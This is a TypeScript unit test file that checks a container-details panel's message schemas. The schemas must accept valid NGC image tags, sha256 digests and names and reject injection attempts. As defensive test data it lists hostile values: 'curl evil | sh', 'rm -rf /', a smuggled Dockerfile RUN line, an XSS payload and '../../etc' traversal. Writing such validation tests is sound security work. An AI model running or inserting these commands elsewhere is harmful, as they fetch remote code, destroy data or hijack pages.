import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
    hostMessageSchema,
    isActionableTag,
    panelStateSchema,
    webviewMessageSchema,
} from '../../../src/protocol/details';

const DIGEST = `sha256:${'a'.repeat(64)}`;
/** Every webview message that names a tag the host turns into a command. */
const TAG_MESSAGES = [
    'details/copyPull',
    'details/insertFrom',
    'details/pull',
    'details/verify',
    'details/mirror',
] as const;

describe('details protocol: validation of tags, digests and names (unit)', () => {
    it('Should accept real tags in every tag-carrying webview message', () => {
        for (const type of TAG_MESSAGES) {
            for (const tag of ['25.03-py3', 'latest', '12.8.1-cudnn-devel-ubuntu24.04', '_x', 'A'.repeat(128)]) {
                assert.ok(webviewMessageSchema.safeParse({ type, tag }).success, `${type} ${tag}`);
            }
        }
    });

    it('Should refuse tags that would inject into a pull command or FROM line', () => {
        const hostile = [
            'latest && curl evil | sh',
            'x;rm -rf /',
            'a b',
            '-rm',
            '.hidden',
            '',
            'A'.repeat(129),
            'x\nRUN evil',
            '<img src=x onerror=alert(5)>',
            'x@sha256:00',
        ];
        for (const type of TAG_MESSAGES) {
            for (const tag of hostile) {
                assert.equal(
                    webviewMessageSchema.safeParse({ type, tag }).success,
                    false,
                    `${type} ${JSON.stringify(tag)}`,
                );
            }
        }
        assert.equal(isActionableTag('latest && curl evil'), false);
        assert.ok(isActionableTag('25.03-py3'));
    });

    it('Should accept only lower-case sha256 digests to copy', () => {
        assert.ok(webviewMessageSchema.safeParse({ type: 'details/copyDigest', digest: DIGEST }).success);
        for (const digest of [
            `sha256:${'A'.repeat(64)}`,
            `sha512:${'a'.repeat(128)}`,
            `${DIGEST} && x`,
            `sha256:${'a'.repeat(63)}`,
        ]) {
            assert.equal(webviewMessageSchema.safeParse({ type: 'details/copyDigest', digest }).success, false, digest);
        }
    });

    it('Should refuse a restored panel state whose artifact names are not NGC names', () => {
        assert.ok(
            panelStateSchema.safeParse({ ref: { kind: 'container', org: 'nvidia', team: 'tao', name: 'tao-toolkit' } })
                .success,
        );
        for (const ref of [
            { kind: 'container', org: 'nvidia', name: '../../etc' },
            { kind: 'container', org: 'nvidia/x', name: 'pytorch' },
            { kind: 'container', org: 'nvidia', team: '', name: 'pytorch' },
            { kind: 'container', org: 'nvidia', name: 'py torch' },
        ]) {
            assert.equal(panelStateSchema.safeParse({ ref }).success, false, JSON.stringify(ref));
        }
    });

    it('Should check digests and tags in host messages too', () => {
        const verification = { state: 'verified', digest: DIGEST, summary: 'verified', details: [] };
        assert.ok(hostMessageSchema.safeParse({ type: 'host/verification', tag: '1.0', verification }).success);
        assert.equal(
            hostMessageSchema.safeParse({ type: 'host/verification', tag: 'a b', verification }).success,
            false,
        );
        assert.equal(
            hostMessageSchema.safeParse({
                type: 'host/verification',
                tag: '1.0',
                verification: { ...verification, digest: 'sha256:zz' },
            }).success,
            false,
        );
        const row = { tag: '1.0', platforms: [{ os: 'linux', architecture: 'amd64', digest: 'md5:abc' }] };
        assert.equal(
            hostMessageSchema.safeParse({ type: 'host/rows', tags: [row], versions: [], more: false }).success,
            false,
        );
    });

    it('Should carry a display-only tag row with a non-tag name (shown as text, never actionable)', () => {
        const row = { tag: '<b>bold</b>', platforms: [] };
        assert.ok(hostMessageSchema.safeParse({ type: 'host/rows', tags: [row], versions: [], more: true }).success);
        assert.equal(isActionableTag(row.tag), false);
    });

    it('Should accept a bare Load more request and a Load more failure', () => {
        assert.ok(webviewMessageSchema.safeParse({ type: 'details/loadMore' }).success);
        assert.ok(
            hostMessageSchema.safeParse({ type: 'host/moreError', problem: { title: 't', remedy: 'r' } }).success,
        );
        assert.equal(
            hostMessageSchema.safeParse({ type: 'host/rows', tags: [], versions: [] }).success,
            false,
            'more is required',
        );
    });
});
